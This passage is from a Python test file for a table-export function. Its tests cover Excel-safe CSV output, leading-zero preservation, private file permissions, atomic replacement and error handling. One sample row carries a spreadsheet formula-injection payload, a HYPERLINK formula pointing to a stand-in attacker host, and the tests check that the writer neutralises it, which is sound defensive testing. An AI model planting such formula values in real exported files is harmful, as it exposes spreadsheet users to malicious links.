    return pl.DataFrame(
        {
            "resident_id": ["000123", "000124"],
            "resident_code": ["00000000060", "12345678903"],
            "memo": ['=HYPERLINK("http://evil.example","x")', "普通"],
            "count": [7, 8],
        }
    )


def test_write_table_csv_is_excel_safe_and_keeps_leading_zeros(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    files.write_table(_sample_frame(), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw[3:].decode("utf-8")
    assert '"00000000060"' in text
    assert '"000123"' in text
    assert "\"'=HYPERLINK(" in text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["resident_id", "resident_code", "memo", "count"]
    assert rows[1][2].startswith("'=HYPERLINK(")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # Read back as one of our own files: the values come back exactly.
    back = ingest.read_export(out, ours=True).frame
    assert back["memo"].to_list() == _sample_frame()["memo"].to_list()
    assert back["resident_code"].to_list() == ["00000000060", "12345678903"]


@pytest.mark.parametrize("name", ["out.csv", "out.parquet"])
def test_write_table_creates_private_files_whatever_the_umask(tmp_path: Path, name: str) -> None:
    old = os.umask(0)
    try:
        files.write_table(_sample_frame(), tmp_path / name)
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600


def test_write_table_replacing_a_file_makes_it_private(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old")
    out.chmod(0o644)
    files.write_table(_sample_frame(), out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_bytes() != b"old"


def test_write_table_parquet_keeps_text_codes(tmp_path: Path) -> None:
    out = tmp_path / "out.parquet"
    files.write_table(_sample_frame(), out)
    table = pq.read_table(out)
    assert table.column("resident_code").to_pylist() == ["00000000060", "12345678903"]


def test_write_table_refuses_other_extensions(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"\.csv or \.parquet"):
        files.write_table(_sample_frame(), tmp_path / "out.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_failed_write_leaves_old_file_and_no_temp_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out.csv"
    out.write_bytes(b"previous good output\n")

    def write_half_then_fail(frame: pl.DataFrame, path: Path, suffix: str) -> None:
        Path(path).write_bytes(b"half a fi")
        raise RuntimeError("disk full")

    monkeypatch.setattr(files, "write_table_to", write_half_then_fail)
    with pytest.raises(RuntimeError, match="disk full"):
        files.write_table(_sample_frame(), out)
    assert out.read_bytes() == b"previous good output\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_failed_first_write_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(frame: pl.DataFrame, path: Path, suffix: str) -> None:
        raise OSError("no space")

    monkeypatch.setattr(files, "write_table_to", fail)
    with pytest.raises(OSError, match="no space"):
        files.write_table(_sample_frame(), tmp_path / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_write_table_into_missing_folder_is_a_usage_error(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="does not exist"):
        files.write_table(_sample_frame(), tmp_path / "nope" / "out.csv")
